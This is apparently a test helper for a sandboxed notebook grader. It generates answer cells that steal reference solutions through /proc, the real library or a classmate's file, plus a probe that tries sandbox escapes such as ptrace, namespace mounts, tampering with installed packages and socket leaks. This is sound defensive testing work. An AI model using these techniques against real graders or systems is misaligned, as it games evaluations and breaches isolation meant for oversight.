"""Answer cells written by the cleverest student in the class: they fetch the answer instead of computing it.

Each function returns the source of an answer cell. The cell first defines the exercise's stub or a
wrong answer (what the student could not write), then tries to replace it with the real answer taken
from somewhere a graded kernel must not reach. An attack swallows its own errors, so that only the
grader's walls decide: inside Landlock it earns nothing; without walls it would earn full marks,
which is why the grader then withholds the points for review.

``probe_source`` is different: a function that tries every channel when the check calls it and
raises with what it saw, so the test can read the kernel's view from the check's failure message.
"""
import json

#: (a) the reference notebook: its path on another process's command line under /proc, or beside the venv.
STEAL_NOTEBOOK = '''
import json as _json, os as _os, sys as _sys


def _repositories():
    """<dirname of sys.prefix>, and the same for the interpreter's venv (-S leaves sys.prefix at the base)."""
    venv = _os.path.dirname(_os.path.dirname(_sys.executable))
    return [_os.path.dirname(_sys.prefix), _os.path.dirname(venv)]


def _candidates(name, where):
    found = []
    if "prefix" in where:                     # the usual layout: <repo>/.venv and <repo>/solutions
        found += [_os.path.join(root, "solutions", name) for root in _repositories()]
    if "proc" in where:                       # every process's command line, the grader's included
        try:
            pids = [p for p in _os.listdir("/proc") if p.isdigit()]
        except OSError:
            pids = [str(p) for p in range(max(1, _os.getpid() - 3000), _os.getpid())]
        for pid in pids:
            try:
                with open(f"/proc/{{pid}}/cmdline", "rb") as fh:
                    args = fh.read().split(b"\\0")
            except OSError:
                continue
            try:
                cwd = _os.readlink(f"/proc/{{pid}}/cwd")
            except OSError:                           # hidden for a non-dumpable or more privileged process
                cwd = "/"
            found += [_os.path.join(cwd, a.decode()) for a in args if a.endswith(b".ipynb")]
    if "parents" in where:                    # (e) up the process tree to the grader: its --reference
        pid = _os.getppid()
        while pid > 1:
            try:
                with open(f"/proc/{{pid}}/cmdline", "rb") as fh:
                    args = fh.read().split(b"\\0")
                if b"--reference" in args:
                    try:
                        cwd = _os.readlink(f"/proc/{{pid}}/cwd")
                    except OSError:                   # a non-dumpable process hides its cwd
                        cwd = "/"
                    found.append(_os.path.join(cwd, args[args.index(b"--reference") + 1].decode()))
                with open(f"/proc/{{pid}}/stat") as fh:
                    pid = int(fh.read().rsplit(")", 1)[1].split()[1])
            except (OSError, ValueError, IndexError):
                break
    return found


def _steal(key, name, where):
    for path in _candidates(name, where):
        try:
            with open(path) as fh:
                nb = _json.load(fh)
        except Exception:
            continue
        for cell in nb.get("cells", []):
            meta = cell.get("metadata", {{}})
            if "answer" in meta.get("tags", []) and meta.get("lessonlib", {{}}).get("id") == key:
                src = cell["source"]
                src = "".join(src) if isinstance(src, list) else src
                if "NotImplementedError" not in src:
                    return src
    return None


_src = _steal({key!r}, {notebook!r}, {where!r})
if _src:
    exec(_src, globals())
'''

#: (b) the real lessonlib, loaded from its directory under another module name.
LOAD_PACKAGE = '''
import importlib.util as _util, os as _os, sys as _sys


def _real_lessonlib():
    if "reallib" in _sys.modules:                   # an earlier answer cell loaded it
        return _sys.modules["reallib"]
    venv = _os.path.dirname(_os.path.dirname(_sys.executable))
    root = _os.path.join(_os.path.dirname(venv), "lessonlib")
    spec = _util.spec_from_file_location("reallib", _os.path.join(root, "__init__.py"),
                                         submodule_search_locations=[root])
    module = _util.module_from_spec(spec)
    _sys.modules["reallib"] = module
    spec.loader.exec_module(module)
    return module


try:
    real = _real_lessonlib()
    import importlib as _importlib
    for _name in ("so3", "dynamics", "dynamics.control"):
        _importlib.import_module("reallib." + _name)
    {uses}
except Exception as _exc:
    pass
'''

#: (c) the library's source read with open() and exec'ed into module namespaces (a package of our own).
EXEC_SOURCE = '''
import os as _os, sys as _sys, types as _types


class _SourceImporter:
    """Serves the modules 'stolen.*' from the real lessonlib's files, read with open() and exec'ed."""

    root = _os.path.join(_os.path.dirname(_os.path.dirname(_os.path.dirname(_sys.executable))), "lessonlib")

    def find_spec(self, fullname, path=None, target=None):
        if fullname != "stolen" and not fullname.startswith("stolen."):
            return None
        import importlib.machinery
        rel = fullname.split(".")[1:]
        package = _os.path.join(self.root, *rel)
        is_package = _os.path.isdir(package)
        file = _os.path.join(package, "__init__.py") if is_package else package + ".py"
        spec = importlib.machinery.ModuleSpec(fullname, self, origin=file, is_package=is_package)
        if is_package:
            spec.submodule_search_locations = [package]
        return spec

    def create_module(self, spec):
        return None

    def exec_module(self, module):
        module.__file__ = module.__spec__.origin
        with open(module.__spec__.origin) as fh:
            exec(compile(fh.read(), module.__spec__.origin, "exec"), module.__dict__)


try:
    _sys.meta_path.insert(0, _SourceImporter())
    import importlib as _importlib
    real = _importlib.import_module("stolen")
    for _name in ("so3", "dynamics", "dynamics.control"):
        _importlib.import_module("stolen." + _name)
    {uses}
except Exception as _exc:
    pass
'''

#: (d) a classmate's submission in the same batch, read from its path.
STEAL_CLASSMATE = '''
import json as _json
try:
    with open({path!r}) as _fh:
        for _cell in _json.load(_fh)["cells"]:
            if _cell.get("metadata", {{}}).get("lessonlib", {{}}).get("id") == {key!r}:
                exec("".join(_cell["source"]) if isinstance(_cell["source"], list) else _cell["source"], globals())
except Exception:
    pass
'''

#: What (b) and (c) define with the real library, per exercise: {answer key: statements using `real`}.
LIBRARY_ANSWERS = {
    "rnea05": {"answer-rnea": "rnea = lambda model, q, qd, qdd, gravity=None: "
                              "real.dynamics.rnea(model, q, qd, qdd, gravity=gravity)"},
    "lie_groups01": {"answer-hat-vee": "hat, vee = real.so3.hat, real.so3.vee",
                     "answer-exp": "so3_exp = real.so3.exp",
                     "answer-log": "so3_log = real.so3.log"},
    "applications11": {"answer-ct": "computed_torque = lambda model, q, qd, q_d, qd_d, qdd_d, Kp, Kd, gravity=None: "
                                    "real.dynamics.control.computed_torque(lambda a, b, c: real.dynamics.rnea(model, a, b, "
                                    "c, gravity=gravity), lambda t: (q_d, qd_d, qdd_d), Kp, Kd)(0.0, q, qd)"},
}


def steal_notebook(stub, key, notebook, where):
    return stub + "\n" + STEAL_NOTEBOOK.format(key=key, notebook=notebook, where=where)


def load_package(stub, uses):
    return stub + "\n" + LOAD_PACKAGE.format(uses=uses)


def exec_source(stub, uses):
    return stub + "\n" + EXEC_SOURCE.format(uses=uses)


def steal_classmate(stub, key, path):
    return stub + "\n" + STEAL_CLASSMATE.format(key=key, path=path)


#: Every other channel, tried from inside the student's `rnea` when a check calls it.
PROBE = r'''
import ctypes as _ctypes, errno as _errno, glob as _glob, json as _json, os as _os, signal as _signal, socket as _socket
import subprocess as _subprocess, sys as _sys


def rnea(model, q, qd, qdd, gravity=None):
    seen = {}
    secret = SECRET
    here = _os.getcwd()

    def attempt(name, fn):
        try:
            out = fn()
            seen[name] = "ok" if out else "empty"
            if isinstance(out, (bytes, str)) and MARK in (out if isinstance(out, str) else out.decode("latin-1")):
                seen[name] = "LEAKED"
        except OSError as exc:
            seen[name] = _errno.errorcode.get(exc.errno, type(exc).__name__) if exc.errno else type(exc).__name__
        except BaseException as exc:
            seen[name] = type(exc).__name__

    def read(path):
        with open(path, "rb") as fh:
            return fh.read()

    def symlink():
        _os.symlink(secret, _os.path.join(here, "link"))
        return read(_os.path.join(here, "link"))

    def hardlink():
        _os.link(secret, _os.path.join(here, "hard"))
        return read(_os.path.join(here, "hard"))

    def fds():
        found = b""
        for fd in range(3, 256):
            try:
                found += _os.pread(fd, 1 << 16, 0)
            except OSError:
                continue
        return found

    def openat():
        libc = _ctypes.CDLL(None, use_errno=True)
        fd = libc.syscall(257, -100, secret.encode(), 0, 0)            # openat(AT_FDCWD, path, O_RDONLY)
        if fd < 0:
            raise PermissionError(_ctypes.get_errno(), "openat")
        return _os.read(fd, 1 << 16)

    def child():
        out = _subprocess.run(["cat", secret], capture_output=True, timeout=20)
        return out.stdout

    def python_child():
        out = _subprocess.run([_sys.executable, "-c", f"print(open({secret!r}).read())"], capture_output=True,
                              timeout=60)
        return out.stdout

    def write_package():
        import numpy
        with open(numpy.__file__, "a") as fh:
            fh.write("\n# tampered\n")
        return True

    def write_sandbox():
        import lessonlib
        with open(lessonlib.__file__, "a") as fh:
            fh.write("\n# tampered\n")
        return True

    def ptrace():
        libc = _ctypes.CDLL(None, use_errno=True)
        if libc.ptrace(16, _os.getppid() or 1, 0, 0) < 0:             # PTRACE_ATTACH the nbval process (or init)
            raise PermissionError(_ctypes.get_errno(), "ptrace")
        return True

    def signal_parent():
        parent = _os.getppid()                                         # 0: the first of its own PID namespace
        if parent == 0:
            raise ProcessLookupError(_errno.ESRCH, "no parent in sight")
        _os.kill(parent, 0)                                            # may we signal the nbval process?
        return True

    def tcp():
        with _socket.create_connection(("127.0.0.1", 22), timeout=2):
            return True

    def udp(host, port):                                               # Landlock does not cover UDP
        with _socket.socket(_socket.AF_INET, _socket.SOCK_DGRAM) as s:
            s.settimeout(2)
            s.sendto(b"rnea?", (host, port))
            return s.recv(100).decode()

    def raw():
        with _socket.socket(_socket.AF_INET, _socket.SOCK_RAW, _socket.IPPROTO_ICMP):
            return True

    def abstract(name):                                                # abstract Unix sockets: per network namespace
        with _socket.socket(_socket.AF_UNIX, _socket.SOCK_STREAM) as s:
            s.settimeout(2)
            s.connect("\0" + name)
            return s.recv(100).decode()

    def judge_dir():
        return _json.dumps(_os.listdir(_os.path.dirname(_os.environ["LESSONLIB_JUDGE"][5:])))

    def mount_namespace():
        libc = _ctypes.CDLL(None, use_errno=True)
        if libc.unshare(0x10000000 | 0x00020000) < 0:                 # CLONE_NEWUSER | CLONE_NEWNS
            raise PermissionError(_ctypes.get_errno(), "unshare")
        if libc.mount(_os.path.dirname(secret).encode(), here.encode(), None, 4096, None) < 0:   # MS_BIND
            raise PermissionError(_ctypes.get_errno(), "mount")
        return read(_os.path.join(here, _os.path.basename(secret)))

    attempt("open", lambda: read(secret))
    attempt("proc_self_root", lambda: read("/proc/self/root" + secret))
    attempt("proc_parent_cmdline", lambda: read(f"/proc/{_os.getppid()}/cmdline"))
    attempt("proc_list", lambda: _json.dumps(_os.listdir("/proc")))
    attempt("dev_fd", lambda: _json.dumps(_os.listdir("/dev/fd")))
    attempt("symlink", symlink)
    attempt("hardlink", hardlink)
    attempt("inherited_fds", fds)
    attempt("openat_syscall", openat)
    attempt("child_cat", child)
    attempt("child_python", python_child)
    attempt("write_installed_package", write_package)
    attempt("write_sandbox_library", write_sandbox)
    attempt("ptrace_parent", ptrace)
    attempt("signal_parent", signal_parent)
    attempt("tcp_connect", tcp)
    attempt("udp_loopback", lambda: udp("127.0.0.1", UDP_PORT))
    attempt("udp_outside", lambda: udp("192.0.2.1", 53))
    attempt("dns", lambda: _socket.getaddrinfo("pypi.org", 443) and True)
    attempt("raw_socket", raw)
    attempt("abstract_unix_socket", lambda: abstract(ABSTRACT))
    attempt("judge_socket_dir", judge_dir)
    attempt("other_runs", lambda: _json.dumps(_glob.glob("/tmp/lessonlib-*") + _os.listdir("/tmp")))
    attempt("mount_namespace", mount_namespace)
    attempt("meta_path_modern_robotics", lambda: (_sys.meta_path.pop(0), __import__("modern_robotics"))[1])
    attempt("setuid", lambda: _os.setuid(1) or True)

    def huge_file():
        with open(_os.path.join(here, "big"), "wb") as fh:
            fh.seek(1 << 30)
            fh.write(b"x")
        return True

    attempt("file_of_a_gigabyte", huge_file)
    raise RuntimeError("SEEN" + _json.dumps(seen, sort_keys=True))
'''


#: Where the test listens while the probe runs: a UDP port on the loopback and an abstract Unix
#: socket, each answering with an (invented) answer — what a classmate's kernel or a helper the
#: student controls would serve.
UDP_PORT = 47311
ABSTRACT = "lessonlib-classmate-answers"


def probe_source(secret, mark):
    """The probing `rnea`: ``secret`` is a file outside the sandbox that holds ``mark``."""
    return (PROBE.replace("SECRET", repr(secret)).replace("MARK", repr(mark))
            .replace("UDP_PORT", str(UDP_PORT)).replace("ABSTRACT", repr(ABSTRACT)))


class Listeners:
    """The UDP and abstract-socket servers of :data:`UDP_PORT` and :data:`ABSTRACT` (a context manager)."""

    def __enter__(self):
        import socket
        import threading
        self.udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        self.udp.bind(("127.0.0.1", UDP_PORT))
        self.unix = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
        self.unix.bind("\0" + ABSTRACT)
        self.unix.listen()
        self.heard = []

        def serve_udp():
            while True:
                try:
                    data, peer = self.udp.recvfrom(100)
                except OSError:
                    return
                if peer is None:                                   # shut down: no datagram came
                    return
                self.heard.append(("udp", data))
                self.udp.sendto(b"LEAKED", peer)

        def serve_unix():
            while True:
                try:
                    conn, _ = self.unix.accept()
                except OSError:
                    return
                self.heard.append(("unix", b""))
                with conn:
                    conn.sendall(b"LEAKED")
        for target in (serve_udp, serve_unix):
            threading.Thread(target=target, daemon=True).start()
        return self

    def __exit__(self, *exc):
        import socket
        for s in (self.udp, self.unix):
            try:
                s.shutdown(socket.SHUT_RDWR)
            except OSError:
                pass
            s.close()


def seen_by_probe(message):
    """The probe's observations, from a check's failure message."""
    start = message.index("SEEN") + 4
    return json.loads(message[start:message.index("}", start) + 1])
